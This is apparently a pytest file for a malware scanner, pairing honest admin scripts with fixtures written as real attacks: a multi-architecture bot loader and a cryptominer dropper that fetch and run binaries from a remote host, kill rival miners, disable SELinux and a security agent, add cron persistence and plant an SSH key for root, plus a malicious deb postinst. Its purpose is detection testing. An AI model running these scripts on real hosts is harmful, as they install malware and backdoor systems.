"""Shell scripts of the shapes miner droppers and bot loaders take, written here, next to
honest scripts that download, install keys, stop services or clean up cron: what the exam of
a script sees, and what the release policy blocks on."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from blocking import high
from finalexam.analyze.behavior.shell import shell_calls
from finalexam.config import Config
from finalexam.exam import run_exam
from finalexam.model import Severity

ARCHES = ("x86", "x86_64", "arm7", "mips", "mpsl")

# the loader a bot spreads by: one line per architecture, fetched by every tool at hand
LOADER = "#!/bin/bash\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\n" + "".join(
    f"wget http://198.51.100.23/bins/k.{a}; curl -O http://198.51.100.23/bins/k.{a};"
    f"/bin/busybox wget http://198.51.100.23/bins/k.{a}; chmod 777 k.{a}; ./k.{a}; rm k.{a}\n"
    for a in ARCHES
)

MINER_DROPPER = """#!/bin/sh
# clean the host of the others first
pkill -9 -f xmrig
killall -9 kdevtmpfsi kinsing 2>/dev/null
ps aux | grep -v grep | grep 'kthreaddi' | awk '{print $2}' | xargs -I % kill -9 %
setenforce 0 2>/dev/null
if [ -d /usr/local/aegis ]; then /usr/local/aegis/uninstall.sh stop; rm -rf /usr/local/aegis; fi
D=/var/tmp/.ICE-unix/.x
mkdir -p $D
curl -fsSL http://198.51.100.23/xm -o $D/kworker || \\
  wget -q http://198.51.100.23/xm -O $D/kworker
chmod +x $D/kworker
nohup ${D}/kworker -o stratum+tcp://pool.example.invalid:3333 -u w -p x >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "*/10 * * * * $D/kworker") | crontab -
echo "@reboot $D/kworker" >> /var/spool/cron/root
mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDexampleKeyMaterialForTheTestOnly0123456789 x" \\
  >> /root/.ssh/authorized_keys
"""


def scan(tmp_path: Path, name: str, text: str) -> dict[str, str]:
    path = tmp_path / name
    path.write_text(text)
    return high(run_exam(path, Config()))


def calls(text: str) -> list[tuple[str, int]]:
    return [(fact.value, fact.line) for fact in shell_calls(text, lambda line: "runtime")]


def test_a_bot_loader_that_fetches_makes_executable_and_runs_is_blocked(tmp_path: Path) -> None:
    assert scan(tmp_path, "bins.sh", LOADER) == {"thr-fetch-then-run": "bins.sh"}
    # one fact per line that starts a fetched file, on that line
    assert calls(LOADER) == [("run<-download", n) for n in range(3, 3 + len(ARCHES))]


@pytest.mark.parametrize(
    "script",
    [
        # the output option, a variable in braces, a wrapper in front
        'F=/dev/shm/.s\ncurl -fsSL http://198.51.100.23/s -o "$F"\nchmod +x "$F"\nnohup "${F}" &',
        "wget -q -O /tmp/.d http://198.51.100.23/d && chmod 755 /tmp/.d && /tmp/.d",
        # busybox's tftp and ftpget, as router bots use them
        "busybox tftp -g -r m.arm 198.51.100.23; chmod 777 m.arm; ./m.arm",
        "ftpget -u a -p b 198.51.100.23 .r r.sh; sh .r",
        # continuation lines, handed to an interpreter
        "curl -s \\\n  http://198.51.100.23/p.sh \\\n  -o p.sh\nbash p.sh",
    ],
)
def test_the_chain_is_read_whatever_tool_and_spelling(script: str) -> None:
    assert [value for value, _ in calls("#!/bin/sh\n" + script)] == ["run<-download"]


@pytest.mark.parametrize(
    "script",
    [
        # fetched and unpacked, then a different program runs
        "wget -q https://example.com/r.tar.gz\ntar xzf r.tar.gz\n./configure && make",
        # fetched to standard output and piped on (thr-pipe-to-shell's business)
        "wget -qO- https://example.com/list | sort > list.txt\n./list.txt.sh",
        # a comment that shows the chain runs nothing
        "# wget http://198.51.100.23/x; chmod +x x; ./x\necho done",
        # run first, then fetched: nothing fetched was run
        "./x --version\ncurl -O https://example.com/x",
    ],
)
def test_honest_downloads_start_nothing_they_fetched(script: str) -> None:
    assert calls("#!/bin/sh\n" + script) == []


def test_a_miner_dropper_is_read_for_every_step_it_takes(tmp_path: Path) -> None:
    found = scan(tmp_path, "i.sh", MINER_DROPPER)
    assert set(found) == {
        "thr-fetch-then-run",  # downloaded into $D/kworker, made executable, started
        "thr-kills-competitors",  # xmrig, kdevtmpfsi, kinsing, kthreaddi
        "thr-disable-security",  # SELinux off, Alibaba Cloud's agent removed
        "thr-miner-pool",  # stratum+tcp://
        "thr-ssh-key-implant",  # its own key in root's authorized_keys
    }
    report = run_exam(tmp_path / "i.sh", Config())
    persistence = [f for f in report.findings if f.rule_id == "thr-persistence"]
    assert persistence and persistence[0].evidence.details["risk"] is True


def test_honest_administration_scripts_are_not_read_as_a_dropper(tmp_path: Path) -> None:
    admin = """#!/bin/sh
set -e
# install the operator's own key, from the file they gave
cat "$HOME/.ssh/id_ed25519.pub" >> "$HOME/.ssh/authorized_keys"
pkill -HUP -f gunicorn || true
systemctl restart auditd
dpkg-maintscript-helper rm_conffile /etc/cron.daily/tool 1.2~ -- "$@"
rm -f /etc/systemd/system/tool.service
curl -fsSL https://example.com/tool-1.2.tar.gz -o /tmp/tool.tar.gz
tar -C /opt -xzf /tmp/tool.tar.gz
/opt/tool/bin/tool --version
"""
    assert scan(tmp_path, "admin.sh", admin) == {}


@pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="dpkg-deb not installed")
def test_a_deb_whose_maintainer_script_drops_a_program_fails(tmp_path: Path) -> None:
    root = tmp_path / "pkg"
    (root / "DEBIAN").mkdir(parents=True)
    (root / "DEBIAN" / "control").write_text(
        "Package: tool\nVersion: 1.0\nArchitecture: all\nMaintainer: A <a@example.com>\n"
        "Description: a tool\n"
    )
    postinst = root / "DEBIAN" / "postinst"
    postinst.write_text(
        "#!/bin/sh\nset -e\ncd /tmp\nwget -q http://198.51.100.23/u -O .u\n"
        "chmod +x .u\n./.u >/dev/null 2>&1 &\n"
    )
    postinst.chmod(0o755)  # our own test file, built here; dpkg-deb demands the mode
    (root / "usr" / "share" / "doc" / "tool").mkdir(parents=True)
    (root / "usr" / "share" / "doc" / "tool" / "README").write_text("a tool\n")
    deb = tmp_path / "tool_1.0_all.deb"
    subprocess.run(
        ["dpkg-deb", "--root-owner-group", "--build", str(root), str(deb)],
        check=True,
        capture_output=True,
    )
    assert high(run_exam(deb, Config())) == {"thr-fetch-then-run": "postinst"}


_FIREWALL_TOOL = """#!/usr/bin/python3
import os
import sys

if "--enabled" in sys.argv:
    os.system("systemctl enable firewalld.service")
if "--disabled" in sys.argv:
    os.system("systemctl disable firewalld.service")
"""


def _deb(tmp_path: Path, package: str, files: dict[str, str]) -> Path:
    root = tmp_path / package
    (root / "DEBIAN").mkdir(parents=True)
    (root / "DEBIAN" / "control").write_text(
        f"Package: {package}\nVersion: 1.0\nArchitecture: all\n"
        "Maintainer: A <a@example.com>\nDescription: a tool\n"
    )
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    deb = tmp_path / f"{package}_1.0_all.deb"
    subprocess.run(
        ["dpkg-deb", "--root-owner-group", "--build", str(root), str(deb)],
        check=True,
        capture_output=True,
    )
    return deb


@pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="dpkg-deb not installed")
def test_an_os_package_turning_its_own_service_on_and_off_is_its_own_business(
    tmp_path: Path,
) -> None:
    """firewalld's firewall-offline-cmd enables and disables firewalld.service when asked."""
    unit = "[Unit]\nDescription=firewalld\n[Service]\nExecStart=/usr/sbin/firewalld\n"
    own = {
        "usr/bin/firewall-offline-cmd": _FIREWALL_TOOL,
        "lib/systemd/system/firewalld.service": unit,
    }
    assert high(run_exam(_deb(tmp_path, "firewalld", own), Config())) == {}
    # another package switching the firewall off is disabling a security tool
    other = {"usr/bin/tune": _FIREWALL_TOOL}
    assert "thr-disable-security" in high(run_exam(_deb(tmp_path, "tuner", other), Config()))
    # and so is a registry package of the same name
    wheel_like = tmp_path / "firewalld-src"
    (wheel_like / "firewalld").mkdir(parents=True)
    (wheel_like / "firewalld" / "__init__.py").write_text(_FIREWALL_TOOL)
    assert "thr-disable-security" in high(run_exam(wheel_like, Config()))


# Firefox ESR 153's ChromeMigrationUtils.sys.mjs (in browser/omni.ja): imports Chrome's logins
_MIGRATOR = """\
const { Subprocess } = ChromeUtils.importESModule("resource://gre/modules/Subprocess.sys.mjs");
export const ChromeMigrationUtils = {
  async getLogins(dataPath, profile) {
    const path = PathUtils.join(dataPath, profile.id, "Login Data");
    const rows = await IOUtils.read(path);
    await fetch("https://incoming.telemetry.mozilla.org/submit", { method: "POST" });
    return Subprocess.call({ command: "/usr/bin/true" }).then(() => rows);
  },
};
const ready = ChromeMigrationUtils.getLogins("/home/u/.config/google-chrome", { id: "Default" });
"""


@pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="dpkg-deb not installed")
def test_a_browser_package_reading_browser_profiles_is_its_own_work(tmp_path: Path) -> None:
    module = "usr/lib/firefox-esr/browser/modules/ChromeMigrationUtils.sys.mjs"
    report = run_exam(_deb(tmp_path, "firefox-esr", {module: _MIGRATOR}), Config())
    assert "thr-browser-data" not in high(report)
    [kept] = [f for f in report.findings if f.rule_id == "thr-browser-data"]
    assert kept.severity is Severity.LOW  # still reported
    # the same module in any other package is a stealer's core
    other = run_exam(_deb(tmp_path, "syncer", {"usr/lib/syncer/sync.mjs": _MIGRATOR}), Config())
    assert "thr-browser-data" in high(other)
    # a module that only names the profile, the network and process calls in another file
    # of the package (Firefox's storage-json.sys.mjs names logins.json)
    reader = "export const store = { path: PathUtils.join(profileDir, 'logins.json') };\n"
    sender = (
        "const { Subprocess } = ChromeUtils.importESModule('resource://gre/modules/S.sys.mjs');"
        "\nexport const up = fetch('https://example.org/x').then(() => Subprocess.call({}));\n"
    )
    split = {"usr/lib/firefox-esr/modules/storage-json.sys.mjs": reader,
             "usr/lib/firefox-esr/modules/sync.sys.mjs": sender}  # fmt: skip
    (tmp_path / "split").mkdir()
    browser = _deb(tmp_path / "split", "firefox-esr", split)
    assert "thr-browser-data" not in high(run_exam(browser, Config()))
    spread = {path.replace("firefox-esr", "syncer"): text for path, text in split.items()}
    assert "thr-browser-data" in high(
        run_exam(_deb(tmp_path / "split", "syncer", spread), Config())
    )
